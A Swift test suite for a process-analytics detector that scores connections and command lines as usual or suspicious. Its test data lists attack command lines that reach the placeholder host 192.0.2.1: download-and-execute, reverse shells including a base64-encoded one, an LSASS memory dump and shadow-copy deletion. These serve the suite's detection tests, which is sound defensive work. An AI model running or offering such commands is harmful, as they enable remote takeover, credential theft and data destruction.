import Evidence
import Testing

@testable import Analytics

@Suite("Processes are judged by what is usual for them")
struct ProcessAnalyticsTests {
  /// The signal on a program that opened one connection.
  private func opened(
    _ image: String, _ port: UInt16, proto: TransportProtocol = .tcp, app: String? = nil,
    to server: String = "10.0.0.2",
    role: FlowProcess.Role = .client
  ) -> Signal? {
    let process = KnownProcess(entity: ProcessEntity(host: "alpha", pid: 1, image: image))
    var c = ProcessConnection(
      process: process, role: role, time: at(0), proto: proto, clientIP: ip("10.0.0.1"), clientPort: 50000,
      serverIP: ip(server), serverPort: port, evidence: ["c"])
    c.appProto = app
    var resolution = Resolution()
    resolution.connections = [c]
    return ProcessAnalytics().signals(resolution).first { $0.analytic == "process.unusual_protocol" }
  }

  @Test(
    "What a program does every day stays quiet",
    arguments: [
      ("C:\\Windows\\System32\\lsass.exe", 88), ("C:\\Windows\\System32\\lsass.exe", 389),
      ("C:\\Windows\\System32\\lsass.exe", 135), ("System", 445), ("C:\\Windows\\System32\\svchost.exe", 135),
      ("C:\\Windows\\System32\\svchost.exe", 443), ("\\device\\harddiskvolume3\\windows\\system32\\svchost.exe", 80),
      ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", 443),
      ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", 8443), ("C:\\Windows\\System32\\mstsc.exe", 3389),
      ("/usr/lib/apt/methods/http", 80), ("/usr/bin/curl", 443), ("/lib/systemd/systemd-resolved", 53),
      ("/usr/bin/ssh", 22), ("/usr/lib/jvm/java-17/bin/java", 5432), ("/usr/bin/python3.11", 443),
      ("C:\\Program Files\\Vendor\\Agent\\agent64.exe", 443),
    ] as [(String, UInt16)])
  func usual(_ image: String, _ port: UInt16) {
    #expect((opened(image, port)?.score ?? 0) < 0.5)
  }

  @Test(
    "What a program never does of itself is odd",
    arguments: [
      ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", 389),
      ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", 443),
      ("C:\\Windows\\System32\\wscript.exe", 80), ("C:\\Windows\\System32\\mshta.exe", 443),
      ("C:\\Windows\\System32\\rundll32.exe", 445), ("C:\\Windows\\System32\\notepad.exe", 80),
      ("C:\\Users\\ann\\Downloads\\tool.exe", 88), ("C:\\Users\\ann\\Desktop\\tool.exe", 5985),
      ("C:\\Users\\Public\\svchost.exe", 443), ("C:\\Program Files\\X\\x.exe", 88),
      ("/bin/bash", 443), ("/usr/bin/nc", 4444), ("/usr/lib/jvm/java-17/bin/java", 389), ("/tmp/.x/miner", 445),
      ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", 445),
    ] as [(String, UInt16)])
  func odd(_ image: String, _ port: UInt16) {
    #expect((opened(image, port)?.score ?? 0) >= 0.5)
  }

  @Test("The wire's word goes before the port's")
  func seen() {
    let bash = opened("/usr/bin/curl", 443, app: "ldap")
    #expect(bash?.reason.contains("LDAP") == true)
    #expect(bash?.reason.contains("by its port") == false)
    #expect(opened("/usr/bin/curl", 389)?.reason.contains("by its port") == true)
  }

  @Test("The reason names what was seen and what would have been usual")
  func reason() {
    let signal = opened("C:\\Users\\ann\\Desktop\\tool.exe", 5985, app: "http")
    #expect(
      signal?.reason
        == "tool.exe on alpha opened one WinRM connection to 10.0.0.2:5985; it is a program from a user's desktop, and WinRM is normally spoken by remote management (winrs.exe, Server Manager)."
    )
    #expect(signal?.attack == ["T1021.006"])
    #expect(signal?.evidence == ["c"])
  }

  @Test("What a machine says to itself or to all is not judged")
  func local() {
    #expect(opened("/bin/bash", 443, to: "127.0.0.1") == nil)
    #expect(opened("/bin/bash", 5353, proto: .udp, to: "224.0.0.251") == nil)
  }

  @Test("A shell that accepts connections is odd; a service that does is not")
  func serving() {
    #expect((opened("/bin/bash", 4444, role: .server)?.score ?? 0) >= 0.5)
    #expect(opened("C:\\Windows\\System32\\svchost.exe", 135, role: .server) == nil)
  }

  private func started(_ image: String, command: String? = nil, parent: String? = nil) -> [Signal] {
    var resolution = Resolution()
    let entity = ProcessEntity(host: "alpha", pid: 1, image: image, commandLine: command)
    resolution.known = [
      KnownProcess(
        entity: entity, parent: parent.map { ParentProcess(pid: 2, image: $0) }, start: at(0), evidence: ["p"])
    ]
    return ProcessAnalytics().signals(resolution)
  }

  @Test(
    "Command lines that ordinary work seldom needs are suspicious",
    arguments: [
      // The base64 is of UTF-16LE "Get-ChildItem" and of "bash -i >& /dev/tcp/192.0.2.1/443 0>&1".
      ("powershell.exe", "powershell -nop -w hidden -enc RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQA="),
      ("powershell.exe", "powershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"),
      ("rundll32.exe", "rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\t.dmp full"),
      ("regsvr32.exe", "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll"),
      ("certutil.exe", "certutil.exe -urlcache -f http://192.0.2.1/a.exe a.exe"),
      ("cmd.exe", "cmd.exe /c v^ssadmin d^elete sha\"d\"ows /all"),
      ("bash", "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQzIDA+JjE=}|{base64,-d}|{bash,-i}"),
      ("bash", "bash -c curl -s http://192.0.2.1/x | sh"),
      (
        "python3",
        "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.1',1));os.dup2(s.fileno(),0)"
      ),
    ])
  func suspicious(_ base: String, _ command: String) {
    let signal = started(base, command: command).first { $0.analytic == "process.suspicious_command_line" }
    #expect((signal?.score ?? 0) >= 0.5)
    #expect(signal?.attack.isEmpty == false)
  }

  @Test(
    "Command lines of every day are not",
    arguments: [
      ("powershell.exe", "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1"),
      ("svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
      ("cmd.exe", "cmd.exe /c dir C:\\"), ("bash", "bash ./build.sh --release"),
      ("curl", "curl -O https://example.org/x.tar.gz"),
      ("sh", "sh -c /usr/sbin/logrotate /etc/logrotate.conf"), ("msbuild.exe", "msbuild.exe C:\\src\\app.sln /m"),
      ("base64", "base64 -d notes.txt"), ("net.exe", "net use Z: \\\\files\\share"),
    ])
  func ordinary(_ base: String, _ command: String) {
    let signal = started(base, command: command).first { $0.analytic == "process.suspicious_command_line" }
    #expect((signal?.score ?? 0) < 0.5)
  }

  @Test("What base64 hides is shown")
  func decoded() {
    let signal = started(
      "bash", command: "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQzIDA+JjE=}|{base64,-d}|{bash,-i}"
    )
    .first { $0.analytic == "process.suspicious_command_line" }
    #expect(signal?.reason.contains("decoded: bash -i >& /dev/tcp/192.0.2.1/443 0>&1") == true)
  }

  @Test("Words are found by their bytes, wherever they stand")
  func bytes() {
    #expect("abcabd".holds("abd"))
    #expect("abcabd".holds("abc"))
    #expect("abc".holds(""))
    #expect(!"ab".holds("abc"))
    #expect(!"".holds("a"))
    #expect("naïve".holds("ïv"))
  }

  @Test("RFC 4648 §10: the test vectors decode, and what is too short to mean anything does not")
  func base64() {
    #expect(CommandLine.decode("Zm9vYmFy") == "foobar")
    #expect(CommandLine.decode("Zm9v") == nil)
    #expect(CommandLine.decode("not base64!") == nil)
  }

  @Test("A system program's name elsewhere, a document's ending, an office program's shell: each is odd")
  func starts() {
    #expect(
      started("C:\\Users\\Public\\lsass.exe").contains { $0.analytic == "process.unusual_path" && $0.score >= 0.5 })
    #expect(
      started("C:\\Users\\a\\Downloads\\invoice.pdf.exe").contains {
        $0.analytic == "process.unusual_path" && $0.score >= 0.5
      })
    #expect(
      started("C:\\Windows\\System32\\cmd.exe", parent: "C:\\Program Files\\Microsoft Office\\winword.exe").contains {
        $0.analytic == "process.unusual_parent" && $0.score >= 0.5
      })
    #expect(
      started("C:\\Windows\\System32\\svchost.exe", parent: "C:\\x\\evil.exe").contains {
        $0.analytic == "process.unusual_parent"
      })
    #expect(started("C:\\Windows\\System32\\svchost.exe", parent: "C:\\Windows\\System32\\services.exe").isEmpty)
    #expect(started("C:\\Windows\\System32\\lsass.exe", parent: "C:\\Windows\\System32\\wininit.exe").isEmpty)
    #expect(started("/usr/bin/bash", parent: "/usr/sbin/sshd").isEmpty)
  }

  @Test("The same evidence gives the same signals in the same order")
  func stable() {
    let attribution = Attribution()
    for n in 0..<20 {
      attribution.observe(
        Made.start("p\(n)", "alpha", guid: "{\(n)}", image: "C:\\Users\\Public\\a\(n).exe", at: Double(n)))
      attribution.observe(
        Made.connection(
          "c\(n)", "alpha", guid: "{\(n)}", from: "10.0.0.1", UInt16(50000 + n), to: "10.0.0.2", 389,
          at: Double(n) + 0.5))
    }
    let first = ProcessAnalytics().signals(attribution.resolve())
    let second = ProcessAnalytics().signals(attribution.resolve())
    #expect(first.map(\.id) == second.map(\.id))
    #expect(first.map(\.reason) == second.map(\.reason))
    #expect(!first.isEmpty)
  }
}
